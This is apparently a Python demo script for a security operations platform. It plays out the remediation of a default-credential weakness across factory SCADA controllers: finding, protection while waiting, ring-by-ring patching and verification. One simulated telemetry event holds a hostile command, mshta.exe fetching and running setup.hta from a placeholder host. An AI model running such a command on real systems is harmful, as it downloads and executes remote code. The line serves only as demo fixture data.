"""The factory floor: remediate the condition in rings, and protect what has to wait for its turn."""

from datetime import UTC, datetime, timedelta

from tenet.assets.v1 import assets_pb2 as assets_shown
from tenet.assets.v1 import assets_write_pb2 as assets
from tenet.cases.v1 import cases_write_pb2 as write
from tenet.common.v1 import common_pb2 as common

from infra.cli.demo.casework import Casework, observed_at
from infra.cli.demo.cast import MANUFACTURER
from infra.cli.demo.on_call import answered
from infra.cli.demo.stage import Stage, all_at_once
from infra.cli.demo.telemetry import process, send, usual_day
from infra.cli.demo.world import agree_on_charter, furnish

TENANT = MANUFACTURER.tenant_id
CONTROLLERS = tuple(thing.name for thing in MANUFACTURER.things)
EVERY = tuple(range(1, len(CONTROLLERS) + 1))


async def play(stage: Stage) -> Casework:
    stage.audience.title(
        "The factory floor: the same weakness in every line",
        "REMEDIATE: the condition itself, ring by ring, and protect what has to wait",
    )
    now = datetime.now(UTC)
    await furnish(stage, MANUFACTURER)
    window = {"service-start": now - timedelta(hours=1), "service-end": now + timedelta(hours=8)}
    await agree_on_charter(stage, MANUFACTURER, window)
    left = process("scada-01", r"C:\Windows\System32\mshta.exe", "mshta.exe http://updates.example/setup.hta", now)
    # Nobody looks at it in the play: the queue has something left in it, on a host that is no registered asset.
    await send(stage, TENANT, [*usual_day(["scada-01"], now, 40), left])
    finding_id = await _weakness(stage)
    case = await Casework.of_subject(stage, TENANT, finding_id)
    await answered(stage, case)
    plan = await case.decide()
    stage.audience.line(
        "ana", f"decides the plan: {len(plan.steps)} steps, line one first, line two when it is healthy"
    )
    await all_at_once([case.dispatch(f"{step}-{n}") for n in EVERY for step in ("protect-waiting", "watch-waiting")])
    stage.audience.verified("all controllers are protected and watched while they wait: read back")
    await case.approve("max")
    stage.audience.line("max", "approves the patches for the service window")
    await stage.refused(
        "ana",
        "asks to patch line two first",
        "RING_NOT_HEALTHY",
        await case.dispatch_request("patch-line-2-1"),
        write.DispatchActionResponse,
    )
    await case.dispatch("patch-line-1-1")
    stage.audience.verified("line one is patched: read back")
    await case.complete("line-1-runs", "The plant ran line one for a shift as before.")
    patched = await all_at_once([case.dispatch(f"patch-line-2-{n}") for n in (1, 2)])
    stage.audience.verified("line one runs well, so line two was patched as well: read back")
    await case.complete("update-change-control", "The application is in the patch calendar, with an owner.")
    await _fixed(stage, finding_id, observed_at(patched[-1]))
    await case.close(
        "Nobody had the controllers' application on a list, so its releases went by unseen.",
        "Protection while waiting made the order of the rings a choice of the plant, not of an attacker.",
        "Put every line's software under change control, with the head of automation as its owner.",
    )
    stage.audience.line("ana", "sees the fix verified on every controller and closes the case, cause addressed")
    return case


async def _weakness(stage: Stage) -> str:
    request = assets.ReportFindingRequest(
        tenant_id=TENANT,
        kind=assets_shown.FINDING_KIND_EXPOSURE,
        asset_ids=[stage.assets[TENANT, name] for name in CONTROLLERS],
        title="Engineering application with default credentials in its service port",
        severity_id=4,
        exposure=assets_shown.EXPOSURE_INTERNAL,
        likelihood_millionths=310_000,
        known_exploited=False,
        detail="The same release on every controller; the vendor has a fixed one.",
        label=common.LABEL_AMBER,
        source="audit",
    )
    finding_id = (await stage.ask("ana", request, assets.ReportFindingResponse)).finding_id
    verdict = assets.ValidateFindingRequest(
        tenant_id=TENANT,
        finding_id=finding_id,
        verdict=common.VERDICT_CONFIRMED_EXPOSURE,
        confidence_percent=90,
        rationale="Confirmed on the test bench with the plant's own release.",
    )
    await stage.ask("ana", verdict, assets.ValidateFindingResponse)
    stage.audience.line("ana", f"reports and validates the weakness on {len(CONTROLLERS)} controllers of two lines")
    return finding_id


async def _fixed(stage: Stage, finding_id: str, position: int) -> None:
    controllers = [stage.assets[TENANT, name] for name in CONTROLLERS]
    fixed = assets.ReportFindingFixRequest(
        tenant_id=TENANT, finding_id=finding_id, asset_ids=controllers, detail="Fixed release on all controllers."
    )
    await stage.ask("ana", fixed, assets.ReportFindingFixResponse)
    seen = common.EvidenceInput(
        label=common.LABEL_AMBER, summary="Every controller names the fixed release.", position=position
    )
    verified = assets.VerifyFindingFixRequest(
        tenant_id=TENANT, finding_id=finding_id, asset_ids=controllers, observation=seen
    )
    await stage.ask("ana", verified, assets.VerifyFindingFixResponse)
